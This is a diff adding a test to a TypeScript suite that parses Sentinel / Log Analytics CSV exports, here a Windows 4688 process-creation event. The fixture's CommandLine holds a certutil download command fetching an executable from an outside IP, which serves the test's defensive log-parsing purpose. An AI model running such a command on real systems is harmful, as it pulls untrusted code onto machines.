@@ -113,6 +113,14 @@ describe('csv-events: Sentinel / Log Analytics', () => {
     });
   });
 
+  it('WindowsEvent 4688: EventData as JSON lifted beside the columns', async () => {
+    const data = JSON.stringify({ SubjectUserName: 'alice', SubjectDomainName: 'CORP', NewProcessId: '0x1c90', NewProcessName: 'C:\\Windows\\System32\\certutil.exe', ProcessId: '0x1b40', CommandLine: 'certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe' });
+    const { events, bad } = await read(`TimeGenerated [UTC],Computer,Channel,Provider,EventID,EventData,Type\r\n"11/27/2026, 9:20:11.401 AM",ws1,Security,Microsoft-Windows-Security-Auditing,4688,${quoted(data)},WindowsEvent\r\n`);
+    expect(bad).toEqual([]);
+    expect(events[0]).toMatchObject({ category: 'process_creation', service: 'security', host: 'ws1', user: 'CORP\\alice', time: Date.UTC(2026, 10, 27, 9, 20, 11, 401) });
+    expect(events[0]!.fields).toMatchObject({ Image: 'C:\\Windows\\System32\\certutil.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ProcessId: '0x1c90', ParentProcessId: '0x1b40', Provider_Name: 'Microsoft-Windows-Security-Auditing' });
+  });
+
   it('a [Local Time] column gives no time unless its value names a zone (the viewer\'s zone is unknown); UtcTime then does', async () => {
     const text = 'TimeGenerated [Local Time],Computer,EventID,Channel,Image\n"11/27/2026, 10:14:02.121 AM",ws1,1,Microsoft-Windows-Sysmon/Operational,C:\\x.exe\n';
     expect((await read(text)).events[0]!.time).toBeUndefined();
